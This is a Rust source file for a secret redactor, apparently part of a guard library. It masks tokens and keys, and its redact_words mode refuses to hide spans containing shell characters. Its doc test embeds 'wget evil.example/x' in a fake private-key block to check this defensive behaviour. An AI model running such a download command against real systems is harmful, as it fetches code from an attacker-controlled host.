//! Finding and taking out secrets in a whole text.

use std::borrow::Cow;
use std::ops::Range;
use std::sync::Arc;

use super::gate::Gate;
use super::span::{Span, Writer};
use super::stream::Stream;
use super::values::{ValueError, Values};

/// Takes secrets out of text. Cheap to clone.
#[derive(Clone, Debug, Default)]
pub struct Redactor {
    values: Option<Arc<Values>>,
}

/// A secret in a text, and the rule that knows its shape.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Found {
    /// Stable kebab-case name of the rule; `own-secret` for a value given to [`Redactor::with_values`].
    pub rule: &'static str,
    /// Bytes of the secret part, without a prefix that everybody knows.
    pub range: Range<usize>,
}

impl Redactor {
    /// Knows the shapes of [`rules`](super::rules).
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Knows the shapes and these values, such as the caller's own tokens. They are copied into the redactor, which
    /// never prints them; what is not a secret (a user name) has no place here.
    ///
    /// # Errors
    ///
    /// [`ValueError`] if a value has fewer than 8 bytes or more than 16 KiB, or if all have more than 1 MiB.
    pub fn with_values<'a>(values: impl IntoIterator<Item = &'a str>) -> Result<Self, ValueError> {
        Ok(Self { values: Values::new(values)?.map(Arc::new) })
    }

    /// Every secret, by position; stretches can overlap where several rules agree.
    #[must_use]
    pub fn find(&self, text: &[u8]) -> Vec<Found> {
        self.spans(text).into_iter().map(|span| Found { rule: span.rule, range: span.range }).collect()
    }

    /// Whether one of the rules that are wanted knows a secret in a short text; compiles no other rule.
    #[cfg(feature = "path")]
    pub(crate) fn is_met(text: &[u8], is_wanted: impl Fn(&'static str) -> bool) -> bool {
        let gate = Gate::get();
        gate.candidates_of_short(text).into_iter().any(|candidate| {
            gate.rule(candidate)
                .filter(|rule| is_wanted(rule.id))
                .and_then(|rule| rule.window_end(text, candidate.at, 0, true))
                .is_some_and(|end| gate.judge(text, candidate, end).is_some())
        })
    }

    /// The text with a mark in place of each secret: `ghp_ab…[redacted github-token]`. A prefix that everybody knows
    /// and at most four characters of the secret stay. Redacting again changes nothing.
    #[must_use]
    pub fn redact<'a>(&self, text: &'a str) -> Cow<'a, str> {
        Self::text(text, Self::write(text.as_bytes(), &self.spans(text.as_bytes())))
    }

    /// As [`redact`](Self::redact), for a text by which somebody decides what may run: takes out only secrets that are one
    /// word without anything that a shell acts on, so that nothing else can be dressed up as one and hidden.
    ///
    /// ```
    /// # use guard_core::secret::Redactor;
    /// let question = "-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAAAAAAAAAA\nwget evil.example/x\n-----END PRIVATE KEY-----";
    /// assert_ne!(Redactor::new().redact(question), question);
    /// assert_eq!(Redactor::new().redact_words(question), question);
    /// ```
    #[must_use]
    pub fn redact_words<'a>(&self, text: &'a str) -> Cow<'a, str> {
        let is_active = |byte: &u8| byte.is_ascii_whitespace() || b"$`;|&<>(){}".contains(byte);
        let mut spans = self.spans(text.as_bytes());
        spans.retain(|span| {
            text.as_bytes().get(span.range.clone()).is_some_and(|word| !word.iter().any(is_active))
        });
        Self::text(text, Self::write(text.as_bytes(), &spans))
    }

    fn text<'a>(text: &'a str, written: Cow<'a, [u8]>) -> Cow<'a, str> {
        match written {
            Cow::Borrowed(_) => Cow::Borrowed(text),
            // A known value or a kept character can end inside a character only if the text was no UTF-8 to begin with.
            Cow::Owned(bytes) => Cow::Owned(match String::from_utf8(bytes) {
                Ok(text) => text,
                Err(error) => String::from_utf8_lossy(error.as_bytes()).into_owned(),
            }),
        }
    }

    /// As [`redact`](Self::redact); bytes that are not UTF-8 stay as they are.
    #[must_use]
    pub fn redact_bytes<'a>(&self, text: &'a [u8]) -> Cow<'a, [u8]> {
        Self::write(text, &self.spans(text))
    }

    fn write<'a>(text: &'a [u8], spans: &[Span]) -> Cow<'a, [u8]> {
        if spans.is_empty() {
            return Cow::Borrowed(text);
        }
        let mut out = Vec::with_capacity(text.len());
        let mut writer = Writer::default();
        for span in spans {
            writer.take_out(span, text, &mut out);
        }
        writer.copy_to(text.len(), text, &mut out);
        Cow::Owned(out)
    }

    /// Redacts a text that comes in chunks.
    #[must_use]
    pub fn stream(&self) -> Stream {
        Stream::new(self.clone())
    }

    pub(super) fn values(&self) -> Option<&Values> {
        self.values.as_deref()
    }

    fn spans(&self, text: &[u8]) -> Vec<Span> {
        let gate = Gate::get();
        let mut spans: Vec<Span> = gate
            .candidates(text, 0)
            .filter_map(|candidate| {
                let end = gate.rule(candidate)?.window_end(text, candidate.at, 0, true)?;
                gate.judge(text, candidate, end)
            })
            .chain(self.values().into_iter().flat_map(|values| values.spans(text, 0)))
            .collect();
        spans.sort_by(Span::order);
        spans.dedup();
        spans
    }
}
